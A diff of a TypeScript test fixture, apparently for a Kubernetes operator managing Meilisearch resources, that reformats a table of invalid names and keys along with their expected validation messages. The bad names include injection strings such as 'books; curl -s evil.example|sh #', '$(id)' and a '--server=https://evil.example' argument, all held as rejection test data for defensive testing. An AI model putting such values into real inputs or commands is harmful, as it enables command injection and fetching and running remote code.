@@ -11,14 +11,32 @@ interface BadName {
   readonly which: number
 }
 
-const names = ['Books', '-books', 'books-', 'a..b', 'a/b', 'a_b', 'a b', 'a\n', 'ä', '--server=https://evil.example', 'books; curl -s evil.example|sh #', '$(id)', 'a\u0085b']
+const names = [
+  'Books',
+  '-books',
+  'books-',
+  'a..b',
+  'a/b',
+  'a_b',
+  'a b',
+  'a\n',
+  'ä',
+  '--server=https://evil.example',
+  'books; curl -s evil.example|sh #',
+  '$(id)',
+  'a\u0085b',
+]
 const keys = ['a/b', 'a=b', 'a b', 'a\n', '$(id)', '`id`', "a'b"]
-const says = (field: string, kind: string): string => `${field} must be the name of ${kind}: lower-case letters, digits, - and .`
+const says = (field: string, kind: string): string =>
+  `${field} must be the name of ${kind}: lower-case letters, digits, - and .`
 const keySays = 'key must be a key of its data: letters, digits, -, _ and .'
 
 const here = 'in this namespace'
 const term = (rule: string): string => `spec.managed.affinity.${rule}.namespaces.0`
-const terms = ['podAffinity', 'podAntiAffinity'].flatMap((affinity) => [term(`${affinity}.requiredDuringSchedulingIgnoredDuringExecution.0`), term(`${affinity}.preferredDuringSchedulingIgnoredDuringExecution.0.podAffinityTerm`)])
+const terms = ['podAffinity', 'podAntiAffinity'].flatMap((affinity) => [
+  term(`${affinity}.requiredDuringSchedulingIgnoredDuringExecution.0`),
+  term(`${affinity}.preferredDuringSchedulingIgnoredDuringExecution.0.podAffinityTerm`),
+])
 
 /** Member, and what it names; in which complete object. */
 type Field = readonly [member: string, named: string, which: number, field?: string]
@@ -51,17 +69,34 @@ const keyFields = [
   ['spec.managed.env.0.valueFrom.configMapKeyRef.key', 3],
 ] as const
 /** RFC 1123 labels: no dot either. */
-const labelFields = [['spec.existing.container', 'container', 'a container of the pod', 0] as const, ...terms.map((member) => [member, 'namespaces', 'a Namespace', 1] as const)]
+const labelFields = [
+  ['spec.existing.container', 'container', 'a container of the pod', 0] as const,
+  ...terms.map((member) => [member, 'namespaces', 'a Namespace', 1] as const),
+]
 
 const placed = (member: string): string => member.replaceAll(/\.(\d+)(?=\.|$)/g, '[$1]')
-const bad = (kind: BadName['kind'], [member, message, which]: readonly [string, string, number], values: readonly string[]): BadName[] => values.map((value) => ({ kind, at: placed(member), says: message, change: [[member, value]], which }))
+const bad = (
+  kind: BadName['kind'],
+  [member, message, which]: readonly [string, string, number],
+  values: readonly string[],
+): BadName[] => values.map((value) => ({ kind, at: placed(member), says: message, change: [[member, value]], which }))
 
 /** All of them where they matter most, and one elsewhere: the pattern is the same. */
 const someNames = (member: string): readonly string[] => (member.includes('apiKeySecretRef') ? names : names.slice(-3))
 
 export const badNames: readonly BadName[] = [
-  ...instanceFields.flatMap(([member, named, which, field = 'name']) => bad(meiliInstances, [member, says(field, named), which], someNames(member))),
-  ...snapshotFields.flatMap(([member, named, which, field = 'name']) => bad(meiliSnapshots, [member, says(field, named), which], someNames(member))),
+  ...instanceFields.flatMap(([member, named, which, field = 'name']) =>
+    bad(meiliInstances, [member, says(field, named), which], someNames(member)),
+  ),
+  ...snapshotFields.flatMap(([member, named, which, field = 'name']) =>
+    bad(meiliSnapshots, [member, says(field, named), which], someNames(member)),
+  ),
   ...keyFields.flatMap(([member, which]) => bad(meiliInstances, [member, keySays, which], keys)),
-  ...labelFields.flatMap(([member, field, named, which]) => bad(meiliInstances, [member, `${field} must be the name of ${named}: lower-case letters, digits and -`, which], ['a.b', 'A', 'a;b'])),
+  ...labelFields.flatMap(([member, field, named, which]) =>
+    bad(
+      meiliInstances,
+      [member, `${field} must be the name of ${named}: lower-case letters, digits and -`, which],
+      ['a.b', 'A', 'a;b'],
+    ),
+  ),
 ]
